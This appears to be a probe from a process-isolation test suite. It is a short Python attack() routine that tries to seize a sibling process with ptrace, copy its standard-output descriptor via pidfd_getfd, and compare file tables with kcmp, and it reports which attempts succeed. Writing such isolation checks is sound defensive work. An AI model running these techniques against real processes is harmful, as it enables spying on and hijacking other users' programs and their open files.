"""
Takes another process over as a debugger does, without stopping it, and takes what it has open.
"""

import os

from support.attempts import attempt
from support.kernel import call

_PTRACE_SEIZE = 0x4206
_KCMP_FILE = 0


def attack(target):
    sibling = target["sibling_pid"]
    return attempt(
        {
            "ptrace": lambda: _trace(sibling),
            "pidfd_getfd": lambda: _take(sibling),
            "kcmp": lambda: _compare(sibling),
        }
    )


def _trace(pid):
    # The end of this process lets it go.
    call("ptrace", _PTRACE_SEIZE, pid, None, None)
    return f"process {pid} is traced"


def _take(pid):
    process = os.pidfd_open(pid)
    try:
        taken = call("pidfd_getfd", process, 1, 0)
    finally:
        os.close(process)
    inode = os.fstat(taken).st_ino
    os.close(taken)
    return f"its output, inode {inode}"


def _compare(pid):
    return f"order {call('kcmp', os.getpid(), pid, _KCMP_FILE, 0, 0)} of a file's addresses"
